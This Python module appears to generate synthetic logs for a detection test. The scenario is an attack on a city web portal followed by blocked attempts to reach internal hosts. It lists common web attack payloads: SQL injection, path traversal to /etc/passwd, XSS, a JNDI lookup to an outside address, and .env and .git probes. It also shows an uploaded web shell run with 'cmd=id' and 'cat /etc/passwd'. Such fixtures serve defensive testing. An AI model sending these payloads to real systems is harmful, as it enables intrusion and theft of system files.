"""The portal is attacked until a file is there that should not be; then the web server turns inside."""

from datetime import timedelta

from sentinel.testing.city import services
from sentinel.testing.city.firewalls import Flow, traffic
from sentinel.testing.city.town import FILES, PORTAL_DATA, SCANNER, WEB
from sentinel.testing.scene import About, Scene

ABOUT = About(
    "A web attack on the portal, and from its segment to the inside", "critical", (19, 22), timedelta(hours=5)
)
_TRIED = (
    "/amt24/termine?amt=1%27%20OR%201=1--",
    "/amt24/termine?amt=1%20UNION%20SELECT%20null,version()--",
    "/amt24/datei?name=../../../../etc/passwd",
    "/amt24/hilfe?seite=%3Cscript%3Ealert(1)%3C/script%3E",
    "/amt24/termine?amt=1;WAITFOR%20DELAY%20%270:0:5%27--",
    "/amt24/suche?q=${jndi:ldap://203.0.113.141/a}",
    "/amt24/datei?name=..%2f..%2f..%2fvar%2flog%2fnginx%2faccess.log",
    "/amt24/.env",
    "/amt24/.git/HEAD",
)
_ATTACKER, _AGENT = "203.0.113.141", "sqlmap/1.9.4#stable (https://sqlmap.org)"


def tell(scene: Scene) -> None:
    """Tell it, with the city's own scanner and the portal's database beside it."""
    rng = scene.rng
    for number in range(160):
        at = scene.after(seconds=number * 4 + rng.uniform(0, 3))
        request = f"GET {_TRIED[number % len(_TRIED)]}&z={number} HTTP/1.1"
        status = rng.choice((200, 403, 404, 500))
        scene.say("weaknesses are tried", services.web(at, WEB, _ATTACKER, request, status, agent=_AGENT))
    at = scene.after(minutes=40)
    scene.say(
        "a file of the attacker's",
        services.web(at, WEB, _ATTACKER, "POST /amt24/hochladen HTTP/1.1", 200, agent="curl/8.5.0"),
        services.web(
            at + timedelta(seconds=20),
            WEB,
            _ATTACKER,
            "GET /amt24/anhang/bild.php?cmd=id HTTP/1.1",
            200,
            agent="curl/8.5.0",
        ),
        services.web(
            at + timedelta(seconds=60),
            WEB,
            _ATTACKER,
            "GET /amt24/anhang/bild.php?cmd=cat+/etc/passwd HTTP/1.1",
            200,
            agent="curl/8.5.0",
        ),
    )
    for number, (target, port) in enumerate(
        ((FILES.address, 445), ("10.10.8.10", 389), ("10.10.8.30", 1433), ("10.10.2.15", 445))
    ):
        flow = Flow(WEB.address, target, port, inner="dmz", outer="server")
        scene.say(
            "to the inside", traffic(scene.after(hours=1, minutes=number), flow, rng, "deny"), decisive=number == 0
        )
    for number in range(40):
        request = f"GET {_TRIED[number % len(_TRIED)]} HTTP/1.1"
        line = services.web(
            scene.after(hours=2, seconds=number * 5),
            WEB,
            SCANNER.address,
            request,
            404,
            agent="Schwachstellenpruefung/2.1",
        )
        scene.twin("the city's own scanner", line)
        flow = Flow(WEB.address, PORTAL_DATA.address, 5432, 900, 5000, 2, "dmz", "server")
        scene.twin("the portal's database", traffic(scene.after(hours=2, seconds=number * 7), flow, rng, "accept"))
